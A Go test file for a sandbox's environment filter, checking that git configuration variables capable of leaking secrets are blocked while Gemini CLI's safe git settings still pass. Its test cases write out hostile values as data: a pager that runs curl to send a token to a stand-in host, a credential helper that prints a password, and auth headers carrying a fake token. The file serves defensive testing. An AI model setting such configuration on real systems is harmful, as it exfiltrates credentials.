package sandbox

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/chaperone-dev/chaperone/config"
)

// gemini is the git configuration Gemini CLI 0.61 sets around every
// command (getSafeGitEnv): the set that must keep passing whole.
var gemini = []string{"GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_SYSTEM=/dev/null", "GIT_CONFIG_NOSYSTEM=1",
	"GIT_CONFIG_COUNT=8",
	"GIT_CONFIG_KEY_0=credential.helper", "GIT_CONFIG_VALUE_0=",
	"GIT_CONFIG_KEY_1=core.fsmonitor", "GIT_CONFIG_VALUE_1=",
	"GIT_CONFIG_KEY_2=core.hooksPath", "GIT_CONFIG_VALUE_2=",
	"GIT_CONFIG_KEY_3=core.sshCommand", "GIT_CONFIG_VALUE_3=",
	"GIT_CONFIG_KEY_4=core.pager", "GIT_CONFIG_VALUE_4=cat",
	"GIT_CONFIG_KEY_5=core.editor", "GIT_CONFIG_VALUE_5=",
	"GIT_CONFIG_KEY_6=sequence.editor", "GIT_CONFIG_VALUE_6=",
	"GIT_CONFIG_KEY_7=diff.external", "GIT_CONFIG_VALUE_7="}

// set is a GIT_CONFIG_COUNT set of key=value pairs.
func set(pairs ...string) []string {
	out := []string{fmt.Sprintf("GIT_CONFIG_COUNT=%d", len(pairs))}
	for i, p := range pairs {
		k, v, _ := strings.Cut(p, "=")
		out = append(out, fmt.Sprintf("GIT_CONFIG_KEY_%d=%s", i, k), fmt.Sprintf("GIT_CONFIG_VALUE_%d=%s", i, v))
	}
	return out
}

// What an agent's environment can hand git, tried as an attacker (or a
// careless CI set-up) would: nothing that can carry a secret reaches the
// sandbox, and Gemini CLI's own switches still do.
func TestGitConfigEnv(t *testing.T) {
	const secret = "ghp_0123456789abcdefghijklmnopqrstuvwxyzAB"
	// Gemini's set after the agent's own pairs (Gemini appends to them).
	geminiAfter := func(pairs ...string) []string {
		out := set(append(pairs, "credential.helper=", "core.fsmonitor=", "core.hooksPath=", "core.sshCommand=",
			"core.pager=cat", "core.editor=", "sequence.editor=", "diff.external=")...)
		return append(out, "GIT_CONFIG_GLOBAL=/dev/null")
	}
	tests := []struct {
		name string
		env  []string
		want []string // the GIT_CONFIG* names that pass; nil: none
	}{
		{"gemini's own set", gemini, names(gemini)},
		{"red team: auth header and git -c parameters", []string{"GIT_CONFIG_COUNT=1",
			"GIT_CONFIG_KEY_0=http.https://github.com/.extraheader", "GIT_CONFIG_VALUE_0=AUTHORIZATION: bearer " + secret,
			"GIT_CONFIG_PARAMETERS='url.https://agent:" + secret + "@github.com/.insteadOf'='https://github.com/'"}, nil},
		{"gemini's set after the agent's secret", geminiAfter("http.extraHeader=Authorization: Basic " + secret),
			[]string{"GIT_CONFIG_GLOBAL"}},
		{"gemini's set after a harmless pair not on the list", geminiAfter("url.https://mirror/.insteadOf=https://github.com/"),
			[]string{"GIT_CONFIG_GLOBAL"}},
		{"a helper that prints a password", set("credential.helper=!f() { echo password=" + secret + "; }; f"), nil},
		{"a helper by name", set("credential.helper=store"), nil},
		{"a helper for one host (subsection)", set("credential.https://github.com.helper="), nil},
		{"an ssh command with a key in it", set("core.sshCommand=ssh -i /home/u/.ssh/id_rsa"), nil},
		{"upper-case key, as git allows", set("CORE.HOOKSPATH=/dev/null", "Credential.Helper="),
			[]string{"GIT_CONFIG_COUNT", "GIT_CONFIG_KEY_0", "GIT_CONFIG_VALUE_0", "GIT_CONFIG_KEY_1", "GIT_CONFIG_VALUE_1"}},
		{"a plain pager", set("core.pager=less -FRX"), []string{"GIT_CONFIG_COUNT", "GIT_CONFIG_KEY_0", "GIT_CONFIG_VALUE_0"}},
		{"a pager that runs a shell", set("core.pager=cat; curl http://x/?t=$T"), nil},
		{"a pager with a token in it", set("core.pager=less --x=" + secret), nil},
		{"a pager naming a secret", set("core.pager=less --token"), nil},
		{"a hooks path with a URL user", set("core.hooksPath=https://u:p@h/x"), nil},
		{"a hooks path", set("core.hooksPath=/home/u/.config/git/hooks"), []string{"GIT_CONFIG_COUNT", "GIT_CONFIG_KEY_0", "GIT_CONFIG_VALUE_0"}},
		{"a value too long", set("core.pager=" + strings.Repeat("a ", 200)), nil},
		{"count larger than the pairs", []string{"GIT_CONFIG_COUNT=2", "GIT_CONFIG_KEY_0=core.pager", "GIT_CONFIG_VALUE_0=cat"}, nil},
		{"a key without its value", []string{"GIT_CONFIG_COUNT=1", "GIT_CONFIG_KEY_0=core.hooksPath"}, nil},
		{"pairs without a count", []string{"GIT_CONFIG_KEY_0=core.hooksPath", "GIT_CONFIG_VALUE_0="}, nil},
		{"count not a number", []string{"GIT_CONFIG_COUNT=1x", "GIT_CONFIG_KEY_0=core.pager", "GIT_CONFIG_VALUE_0=cat"}, nil},
		{"count negative", []string{"GIT_CONFIG_COUNT=-1"}, nil},
		{"count with a leading zero", []string{"GIT_CONFIG_COUNT=01", "GIT_CONFIG_KEY_0=core.pager", "GIT_CONFIG_VALUE_0=cat"}, nil},
		{"count too large", append([]string{"GIT_CONFIG_COUNT=65"}, set(slices.Repeat([]string{"core.pager=cat"}, 65)...)[1:]...), nil},
		{"count zero", []string{"GIT_CONFIG_COUNT=0"}, []string{"GIT_CONFIG_COUNT"}},
		{"a secret beyond the count", append(set("core.pager=cat"), "GIT_CONFIG_KEY_1=http.extraHeader", "GIT_CONFIG_VALUE_1="+secret),
			[]string{"GIT_CONFIG_COUNT", "GIT_CONFIG_KEY_0", "GIT_CONFIG_VALUE_0"}},
		{"the last of a name counts", append(set("core.pager=cat"), "GIT_CONFIG_VALUE_0=less --x="+secret), nil},
		{"a safe value set again", append([]string{"GIT_CONFIG_VALUE_0=" + secret}, set("core.pager=cat")...),
			[]string{"GIT_CONFIG_COUNT", "GIT_CONFIG_KEY_0", "GIT_CONFIG_VALUE_0"}},
		{"config files elsewhere", []string{"GIT_CONFIG_GLOBAL=/home/u/.gitconfig-work", "GIT_CONFIG_SYSTEM=/etc/x",
			"GIT_CONFIG=/home/u/.gitconfig", "GIT_CONFIG_NOSYSTEM=" + secret}, nil},
		{"names git does not read", []string{"GIT_CONFIG_TOKEN=x", "GIT_CONFIG_KEY=x", "GIT_CONFIGX=x"}, nil},
	}
	// Even when the config names them: they pass as a set or not at all.
	p := Policy{SandboxConfig: config.SandboxConfig{Env: []string{"GIT_CONFIG_PARAMETERS", "GIT_*", "GIT_CONFIG_KEY_0", "*"}}}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			for _, withPath := range []bool{false, true} {
				got := p.Env(tt.env, withPath)
				if !slices.Equal(names(got), tt.want) {
					t.Errorf("passed %q\nwant names %q", got, tt.want)
				}
				for _, kv := range got {
					// A backend may pass names alone (docker -e NAME): every
					// value must be env's own.
					name, v, _ := strings.Cut(kv, "=")
					if w, _ := lookupEnvOK(tt.env, name); v != w {
						t.Errorf("%s passed as %q, env has %q", name, v, w)
					}
					if strings.Contains(v, secret) {
						t.Errorf("the secret passed in %s", kv)
					}
				}
			}
		})
	}
}

// names are the GIT_CONFIG* names in env, in order.
func names(env []string) []string {
	var out []string
	for _, kv := range env {
		if n, _, _ := strings.Cut(kv, "="); strings.HasPrefix(n, "GIT_CONFIG") {
			out = append(out, n)
		}
	}
	return out
}

func BenchmarkEnv(b *testing.B) {
	env := append([]string{"TERM=xterm", "HOME=/h", "PATH=/usr/bin", "GITHUB_TOKEN=x"}, gemini...)
	var p Policy
	for b.Loop() {
		p.Env(env, true)
	}
}
